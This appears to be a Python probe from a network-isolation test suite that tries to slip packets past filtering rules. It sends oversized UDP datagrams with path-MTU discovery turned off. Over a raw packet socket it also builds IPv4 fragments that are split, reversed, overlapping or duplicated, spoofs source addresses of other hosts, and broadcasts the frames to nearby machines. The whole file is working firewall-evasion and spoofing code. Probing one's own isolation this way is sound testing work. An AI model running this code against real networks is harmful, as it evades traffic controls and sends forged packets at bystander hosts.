"""Packets in pieces, for rules that look at whole ones: the kernel's own, and such as no kernel makes."""

import os
import socket
import time

from attacker import FACTS, attempt, note
from wire import ADDRESS, IPV4, frame, ipv4, macs_nearby, own_mac, packet_socket, udp

PORT, MORE = 4000, 0x2000
TARGETS = sorted(FACTS["bystander"].values())


def pieces(source, target, number):
    """One datagram cut up in several ways: each way a list of packets."""
    whole = udp(b"x" * 56, PORT)
    yield [(0, MORE, whole[:8]), (1, 0, whole[8:])]  # all of the header, then the rest
    yield [(1, 0, whole[8:]), (0, MORE, whole[:8])]  # backwards
    yield [(0, MORE, whole[:16]), (1, MORE, whole[8:24]), (3, 0, whole[24:])]  # overlapping
    yield [(0, MORE, whole[:8]), (0, MORE, whole[:8]), (1, 0, whole[8:])]  # twice
    yield [(0, 0, whole)]


for target in TARGETS:
    for size in (3000, 9000, 60000):
        for discover in (0, 3):  # IP_PMTUDISC_DONT, IP_PMTUDISC_PROBE
            made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            made.setsockopt(socket.IPPROTO_IP, 10, discover)
            for device in (b"", b"eth0"):
                if device:
                    attempt("by device", made.setsockopt, socket.SOL_SOCKET, 25, device)
                attempt(f"{size} bytes to {target}", made.sendto, b"x" * size, (target, PORT))
wire = attempt("a packet socket", packet_socket)
if wire is not None:
    mac, number, sent = own_mac(), int(time.monotonic() * 1000) & 0xFFFF, 0
    others = dict(zip(TARGETS, reversed(TARGETS), strict=True))
    for target in TARGETS:
        for source in (ADDRESS, others[target], os.environ["SYNDICATE_MASTER"]):
            for way in pieces(source, target, number):
                number = number + 1 & 0xFFFF
                for offset, more, part in way:
                    packet = ipv4(source, target, part, number=number, fragment=more | offset)
                    for hardware in [b"\xff" * 6, *macs_nearby(mac)]:
                        sent += wire.send(frame(mac, IPV4, packet, hardware)) > 0
    note(f"{sent} frames sent")
time.sleep(0.4)
